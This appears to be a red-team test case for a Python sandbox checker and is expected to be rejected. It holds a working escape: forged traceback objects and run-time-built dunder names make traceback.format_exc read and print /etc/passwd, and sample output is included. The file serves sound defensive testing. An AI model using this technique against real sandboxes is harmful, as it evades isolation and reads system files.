# expect: reject dunder
# line: 51
# verified: reaches its goal under plain python3 (3.11) in a temp dir (/etc/passwd read)
# why: fifteenth red team (15b), family F: an exception class binds __cause__ to a program object whose __traceback__ (set by a run-time dunder name written as "_" + "_traceback__" in a tuple) format_exc walks: __cause__ is read-only, and the written dunder text refuses the run-time name (line 33)

# Mechanism (family F, forged traceback through the cause chain of traceback.format_exc):
#   A program exception class binds `__cause__` in its class body (dunder-allow lets it).
#   The class attribute shadows BaseException's getset descriptor, so
#   traceback.TracebackException (format_exc -> print_exception) reads e.__cause__ as the
#   program's object and builds TracebackException(type(c), c, c.__traceback__): the
#   forged traceback's frames are walked and linecache opens tb_frame.f_code.co_filename.
#   The README's claim (facades.txt, traceback) that "the chain of causes it walks is one
#   format_exc walks for an exception whose class binds __cause__ to the same value" is
#   false: the chain is whatever the class binds, and its __traceback__ is not checked.
#   The fake objects set their attributes with setattr(self, key, value) in a closed class,
#   with the names coming from positional (key, value) pairs; the dunder names are built
#   as "_" + "_traceback__" inside those tuples (rule G2's "text the program writes
#   starting with __" is not followed through the tuple and the for target).
# Run-time names: RELIES ON DUNDER NAMES GIVEN TO THE BUILTIN setattr AT RUN TIME
#   (__traceback__, __cause__, __context__, __suppress_context__, __notes__), plus the
#   refused non-dunder names tb_frame/f_code/...; the runtime wall's setattr would refuse it.
# Goal reached: /etc/passwd read and printed.
# Output seen under python3:
#   
#   Traceback (most recent call last):
#     File "/etc/passwd", line 1, in passwd
#       root:x:0:0:root:/root:/bin/bash
#     File "/etc/passwd", line 2, in passwd
#       daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#     File "/etc/passwd", line 3, in passwd
#       bin:x:2:2:bin:/bin:/usr/sbin/nologin
import traceback


class Rec:
    def __init__(self, *fields):
        for key, value in fields:
            setattr(self, key, value)


code = Rec(("co_filename", "/etc/passwd"), ("co_name", "passwd"))
frame = Rec(("f_code", code), ("f_globals", {}), ("f_locals", {}))
tb = None
for n in range(20, 0, -1):
    tb = Rec(("tb_frame", frame), ("tb_lasti", -1), ("tb_lineno", n), ("tb_next", tb))
cause = Rec(("_" + "_traceback__", tb), ("_" + "_cause__", None), ("_" + "_context__", None),
            ("_" + "_suppress_context__", False), ("_" + "_notes__", None))


class Main(Exception):
    __cause__ = cause


try:
    raise Main("x")
except Main:
    print(traceback.format_exc())
